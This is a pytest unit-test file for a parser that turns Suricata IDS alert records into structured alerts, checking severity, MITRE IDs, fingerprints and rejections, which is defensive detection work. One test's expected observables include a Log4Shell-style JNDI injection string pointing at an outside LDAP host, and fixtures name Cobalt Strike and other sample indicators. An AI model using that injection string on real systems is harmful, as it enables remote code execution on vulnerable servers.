"""alerts.intake.suricata: Suricata EVE JSON alert records (pure unit tests, no database)."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from alerts.intake import suricata
from alerts.intake.base import BodyError, Observable, RecordError, content_digest
from alerts.intake.receive import parse_records
from tests.intake import fuzz

SAMPLES = Path(__file__).parent / "samples"
NDJSON = "application/x-ndjson"
JSON = "application/json"


def sample_bytes(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def eve_lines() -> list[dict]:
    return [json.loads(line) for line in sample_bytes("suricata_eve_mixed.ndjson").splitlines()]


def eve_alert(signature_id: int) -> dict:
    for record in eve_lines():
        if record.get("alert", {}).get("signature_id") == signature_id:
            return record
    raise LookupError(signature_id)


def parse_all(records: list) -> tuple[list, list[str]]:
    """The batch parsed as the intake pipeline parses it: alerts, and the rejections' reasons."""
    parsed, rejected = parse_records(suricata, records)
    return parsed, [rejection.error for rejection in rejected]


def obs(alert) -> set[tuple[str, str]]:
    return {(o.type, o.value) for o in alert.observables}


# --- batches ----------------------------------------------------------------------------------
def test_content_types_are_json_and_ndjson():
    assert suricata.CONTENT_TYPES == {JSON, NDJSON}


def test_ndjson_batch_splits_per_line_and_rejects_non_alert_events():
    records = suricata.records(sample_bytes("suricata_eve_mixed.ndjson"), NDJSON)
    assert len(records) == 9
    parsed, errors = parse_all(records)
    assert len(parsed) == 7
    assert len(errors) == 2
    assert "event_type 'flow' is not an alert" in errors[0]
    assert "event_type 'stats' is not an alert" in errors[1]
    assert all('"alert"' in error for error in errors)  # tells the sender what to send


def test_json_array_is_a_batch():
    records = suricata.records(sample_bytes("suricata_alert_array.json"), JSON)
    parsed, errors = parse_all(records)
    assert errors == []
    assert [a.rule_id for a in parsed] == ["2030092", "2025649"]


def test_single_object_is_one_record():
    records = suricata.records(sample_bytes("suricata_alert_single.json"), JSON)
    assert len(records) == 1
    alert = suricata.parse(records[0])
    assert alert.title == "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad with Fake Browser 1"
    assert alert.severity == "medium"


def test_eve_lines_sent_as_application_json_are_read_as_ndjson():
    records = suricata.records(sample_bytes("suricata_eve_mixed.ndjson"), JSON)
    assert len(records) == 9
    assert records[0]["alert"]["signature_id"] == 2032749


def test_blank_lines_are_skipped_and_a_bad_line_is_rejected_alone():
    body = b"\n".join(
        [
            json.dumps(eve_alert(2032749)).encode(),
            b"",
            b'{"timestamp": "2026-11-27T10:15:32.123456+0000", "event_type": "alert",',
            b"   ",
            json.dumps(eve_alert(2023883)).encode(),
        ]
    )
    records = suricata.records(body, NDJSON)
    assert len(records) == 3
    parsed, errors = parse_all(records)
    assert len(parsed) == 2
    assert len(errors) == 1 and errors[0].startswith("line 3:")
    with pytest.raises(RecordError, match="line 3"):
        suricata.parse(records[1])  # the view may hand the placeholder back: it re-raises


@pytest.mark.parametrize(
    "body",
    [b"{not json", b"[1, 2", b'{"a": NaN}', b"\xff\xfe"],
)
def test_unusable_json_body_is_a_body_error(body):
    with pytest.raises(BodyError):
        suricata.records(body, JSON)


def test_garbage_lines_sent_as_application_json_keep_the_body_error():
    with pytest.raises(BodyError):
        suricata.records(b"not json\nstill not json\n", JSON)


# --- mapping ----------------------------------------------------------------------------------
def test_http_alert_field_mapping():
    record = eve_alert(2032749)
    alert = suricata.parse(record)
    assert alert.title == "ET MALWARE Cobalt Strike Beacon Observed"
    assert alert.rule_id == "2032749"
    assert alert.rule_name == "ET MALWARE Cobalt Strike Beacon Observed"
    assert alert.category == "a network trojan was detected"
    assert alert.severity == "high"
    assert alert.observed_at == datetime(2026, 11, 27, 10, 15, 32, 123456, tzinfo=UTC)
    assert alert.observed_at.utcoffset().total_seconds() == 0
    assert alert.status == "firing" and alert.ends_at is None
    assert alert.source_ref == "1742098223367201:2032749:2026-11-27T10:15:32.123456+0000"
    assert alert.fingerprint == "suricata:1:2032749:10.20.5.42->185.225.74.19"
    assert alert.mitre == ["T1071", "T1071.001"]
    assert set(alert.tags) == {
        "suricata",
        "action:allowed",
        "app_proto:http",
        "sensor:ids-edge-01",
        "malware_family:Cobalt_Strike",
    }
    assert "TCP 10.20.5.42:51544 -> 185.225.74.19:80" in alert.description
    assert "HTTP GET http://update.cdn-telemetry.net/jquery-3.3.1.min.js" in alert.description
    assert "User-Agent: Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko" in (
        alert.description
    )
    assert obs(alert) == {
        ("ip", "10.20.5.42"),
        ("ip", "185.225.74.19"),
        ("domain", "update.cdn-telemetry.net"),
        ("url", "http://update.cdn-telemetry.net/jquery-3.3.1.min.js"),
    }
    assert all(isinstance(o, Observable) for o in alert.observables)


def test_raw_is_the_record_exactly_as_received():
    line = sample_bytes("suricata_eve_mixed.ndjson").splitlines()[0]
    record = suricata.records(line, NDJSON)[0]
    untouched = copy.deepcopy(record)
    alert = suricata.parse(record)
    assert alert.raw is record
    assert alert.raw == untouched == json.loads(line)
    assert "host" not in {o.type for o in alert.observables}  # the sensor is a tag


def test_dns_alert_takes_the_queried_name():
    alert = suricata.parse(eve_alert(2023883))
    assert alert.severity == "medium"
    assert ("domain", "kjh3lk2sdf9.top") in obs(alert)
    assert "DNS: kjh3lk2sdf9.top" in alert.description


def test_dns_answers_in_detailed_and_grouped_form():
    record = eve_alert(2023883)
    record["dns"] = {
        "version": 2,
        "type": "answer",
        "rrname": "kjh3lk2sdf9.top",
        "answers": [
            {"rrname": "kjh3lk2sdf9.top", "rrtype": "CNAME", "rdata": "edge.badcdn.example"},
            {"rrname": "edge.badcdn.example", "rrtype": "A", "rdata": "198.51.100.9"},
        ],
        "grouped": {"AAAA": ["2001:db8::9"], "TXT": ["v=spf1 -all"]},
    }
    found = obs(suricata.parse(record))
    assert {
        ("domain", "kjh3lk2sdf9.top"),
        ("domain", "edge.badcdn.example"),
        ("ip", "198.51.100.9"),
        ("ip", "2001:db8::9"),
    } <= found
    assert not any("spf" in value for _, value in found)


def test_tls_sni_is_a_domain():
    alert = suricata.parse(eve_alert(2027695))
    assert alert.severity == "low"
    assert ("domain", "cloudflare-dns.com") in obs(alert)
    assert "TLS SNI: cloudflare-dns.com" in alert.description


def test_http_host_that_is_an_address_with_a_port():
    alert = suricata.parse(eve_alert(2034647))
    assert alert.severity == "critical"  # priority 1 and ET signature_severity Critical
    assert alert.mitre == ["T1190"]
    assert "action:blocked" in alert.tags
    assert obs(alert) == {
        ("ip", "203.0.113.45"),
        ("ip", "10.20.1.30"),
        ("url", "http://10.20.1.30:8080/api/login?user=${jndi:ldap://198.51.100.66:1389/a}"),
    }


def test_fileinfo_hashes_are_typed_hashes():
    alert = suricata.parse(eve_alert(2016141))
    hashes = {value for kind, value in obs(alert) if kind == "hash"}
    assert hashes == {
        "a0f848942ce863cf53c0fa6cc684007d",
        "80437a44a661d141174209119d54125a59a64b2a",
        "8fb6d5f37e8055ce720bd0b1d56587f88c0071f285966ba17e72b2b12672aa73",
    }
    assert "File: /files/setup.exe" in alert.description


def test_smtp_alert_with_files_array_and_email_addresses():
    record = json.loads(sample_bytes("suricata_alert_array.json"))[0]
    alert = suricata.parse(record)
    assert alert.mitre == ["T1566.001"]
    assert {
        ("email", "billing@invoice-portal.example"),
        ("email", "j.doe@corp.example.com"),
        ("email", "ap@corp.example.com"),
        ("hash", "41b89d10619cdd3e30fb6c401c17c7d9"),
        ("hash", "8a62e967fcd6dfa5d75308c37808b4668a7faf1cdb06e09ac0a7161827603887"),
    } <= obs(alert)


def test_times_with_an_offset_are_converted_to_utc():
    record = json.loads(sample_bytes("suricata_alert_array.json"))[1]
    alert = suricata.parse(record)
    assert alert.observed_at == datetime(2026, 11, 27, 10, 3, 40, 1, tzinfo=UTC)
    assert alert.observed_at.tzinfo is UTC
    assert alert.mitre == ["T1021.002", "T1570"]
    assert {("ip", "10.30.4.12"), ("ip", "10.30.0.5")} == obs(alert)  # alert.source/target too


def test_ipv6_alert():
    alert = suricata.parse(eve_alert(2009358))
    assert alert.fingerprint == "suricata:1:2009358:2001:db8:85a3::8a2e:370:7334->2001:db8:10::30"
    assert "TCP [2001:db8:85a3::8a2e:370:7334]:60522 -> [2001:db8:10::30]:80" in alert.description
    assert ("ip", "2001:db8:85a3::8a2e:370:7334") in obs(alert)
    assert ("url", "http://www.example.org/nmaplowercheck1764238807") in obs(alert)


def test_absolute_form_http_url_is_kept_as_is():
    record = eve_alert(2032749)
    record["http"]["url"] = "http://proxy-target.example.net/x?y=1"
    assert ("url", "http://proxy-target.example.net/x?y=1") in obs(suricata.parse(record))


def test_missing_timestamp_leaves_observed_at_empty():
    record = eve_alert(2032749)
    del record["timestamp"]
    assert suricata.parse(record).observed_at is None


# --- severity ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("priority", "expected"),
    [
        (1, "high"),
        (2, "medium"),
        (3, "low"),
        (4, "info"),
        (255, "info"),
        (0, "high"),
        ("1", "high"),
        ("3", "low"),
        (2.0, "medium"),
        (None, "medium"),
        ("urgent", "medium"),
        (True, "medium"),
        ([1], "medium"),
        ({"level": 1}, "medium"),
        ("nan", "medium"),
        (10**400, "medium"),
        ("²", "medium"),
    ],
)
def test_severity_from_priority(priority, expected):
    record = eve_alert(2023883)
    record["alert"]["severity"] = priority
    record["alert"]["metadata"] = {}
    assert suricata.parse(record).severity == expected


@pytest.mark.parametrize(
    ("priority", "rated", "expected"),
    [
        (1, ["Critical"], "critical"),
        (1, ["critical"], "critical"),
        (1, "Critical", "critical"),
        (1, ["Major"], "high"),
        (2, ["Critical"], "medium"),  # only a priority 1 rule is raised
        (1, [42], "high"),
    ],
)
def test_et_signature_severity_critical_raises_priority_one(priority, rated, expected):
    record = eve_alert(2032749)
    record["alert"]["severity"] = priority
    record["alert"]["metadata"]["signature_severity"] = rated
    assert suricata.parse(record).severity == expected


# --- MITRE, identity --------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (["T1071", "T1071.001"], ["T1071", "T1071.001"]),
        ("T1059", ["T1059"]),
        (["t1059.001"], ["T1059.001"]),
        (["TA0011", "Application_Layer_Protocol", 1071, None], []),
        ({"id": "T1071"}, []),
    ],
)
def test_mitre_technique_ids(value, expected):
    record = eve_alert(2032749)
    record["alert"]["metadata"]["mitre_technique_id"] = value
    assert suricata.parse(record).mitre == expected


def test_metadata_that_is_not_an_object_is_ignored():
    record = eve_alert(2032749)
    record["alert"]["metadata"] = ["mitre_technique_id", "T1071"]
    alert = suricata.parse(record)
    assert alert.mitre == [] and alert.severity == "high"


def test_a_reshipped_line_has_the_same_source_ref():
    line = sample_bytes("suricata_eve_mixed.ndjson").splitlines()[0]
    first = suricata.parse(suricata.records(line, NDJSON)[0])
    again = suricata.parse(suricata.records(line, NDJSON)[0])
    assert first.source_ref == again.source_ref
    assert first.fingerprint == again.fingerprint


def test_same_flow_other_signature_or_time_is_another_alert_of_the_same_kind():
    base = eve_alert(2032749)
    other_signature = copy.deepcopy(base)
    other_signature["alert"]["signature_id"] = 2032750
    later = copy.deepcopy(base)
    later["timestamp"] = "2026-11-27T10:25:32.000001+0000"
    refs = {suricata.parse(r).source_ref for r in (base, other_signature, later)}
    assert len(refs) == 3
    # a later hit of the same signature between the same hosts groups with the first
    assert suricata.parse(later).fingerprint == suricata.parse(base).fingerprint
    assert suricata.parse(other_signature).fingerprint != suricata.parse(base).fingerprint


def test_other_hosts_are_another_problem():
    base = eve_alert(2032749)
    moved = copy.deepcopy(base)
    moved["src_ip"] = "10.20.5.43"
    assert suricata.parse(moved).fingerprint != suricata.parse(base).fingerprint


def test_alert_without_flow_id_uses_a_content_digest():
    record = eve_alert(9000101)
    del record["flow_id"]
    alert = suricata.parse(record)
    assert alert.source_ref == content_digest(record)
    assert suricata.parse(copy.deepcopy(record)).source_ref == alert.source_ref


def test_title_falls_back_to_the_signature_id():
    record = eve_alert(9000101)
    del record["alert"]["signature"]
    alert = suricata.parse(record)
    assert alert.title == "Suricata signature 9000101"
    assert alert.rule_id == "9000101"


# --- rejected records -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda r: r.update(event_type="flow"), "event_type 'flow' is not an alert"),
        (lambda r: r.update(event_type="dns"), "event_type 'dns' is not an alert"),
        (lambda r: r.update(event_type="anomaly"), "event_type 'anomaly' is not an alert"),
        (lambda r: r.pop("event_type"), "event_type is missing"),
        (lambda r: r.update(event_type=["alert"]), "is not an alert"),
        (lambda r: r.pop("alert"), 'needs an "alert" object'),
        (lambda r: r.update(alert=["signature"]), 'needs an "alert" object'),
        (lambda r: r.update(alert={}), "alert.signature or alert.signature_id is required"),
        (lambda r: r["alert"].update(signature_id="abc"), "alert.signature_id must be a number"),
        (lambda r: r["alert"].update(signature_id=True), "alert.signature_id must be a number"),
        (lambda r: r["alert"].update(signature=["x"]), "alert.signature must be a string"),
        (lambda r: r.update(timestamp="yesterday"), "timestamp: time 'yesterday'"),
        (lambda r: r.update(timestamp={"at": 1}), "timestamp:"),
        (lambda r: r.update(timestamp="0001-01-01T00:00:00+0100"), "out of range"),
        (lambda r: r.update(timestamp=10**400), "timestamp: .* is out of range"),
        (lambda r: r["alert"].update(signature_id="²"), "alert.signature_id must be a number"),
        (lambda r: r["alert"].update(signature_id="9" * 5000), "must be a number"),
    ],
)
def test_bad_records_are_rejected_with_a_clear_message(mutate, message):
    record = eve_alert(2032749)
    mutate(record)
    with pytest.raises(RecordError, match=message.replace("(", r"\(").replace(")", r"\)")):
        suricata.parse(record)


@pytest.mark.parametrize("record", [None, "alert", 42, 1.5, True, [], [{"event_type": "alert"}]])
def test_records_that_are_not_objects_are_rejected(record):
    with pytest.raises(RecordError, match="EVE JSON object"):
        suricata.parse(record)


# --- fuzz: nothing but RecordError escapes ----------------------------------------------------
ODD_VALUES = [
    None,
    True,
    0,
    -1,
    2**63,
    -(10**30),
    10**400,
    "²",
    "٣",
    "9" * 5000,
    1.5,
    "",
    " ",
    "x" * 3000,
    "nan",
    "1e400",
    "\u2028\u0085\ufeff",
    "💥",
    "0001-01-01T00:00:00+0100",
    "9999-12-31T23:59:59-0100",
    "[::1",
    "http://[::1",
    [],
    [None],
    ["T1059", 5, {}],
    {},
    {"": {"": []}},
]


def _raw_is_json_and_times_are_utc(record, alert):
    json.dumps(alert.raw)
    assert fuzz.in_utc(alert.observed_at)


@pytest.mark.parametrize(
    "record",
    [
        eve_alert(2032749),
        eve_alert(2023883),
        eve_alert(2016141),
        json.loads(sample_bytes("suricata_alert_array.json"))[0],
        json.loads(sample_bytes("suricata_alert_array.json"))[1],
    ],
    ids=["http", "dns", "fileinfo", "smtp-files", "smb-source-target"],
)
def test_fuzz_every_field_with_odd_values(record):
    fuzz.every_field_replaced(
        suricata.parse, record, ODD_VALUES, removing=True, check=_raw_is_json_and_times_are_utc
    )
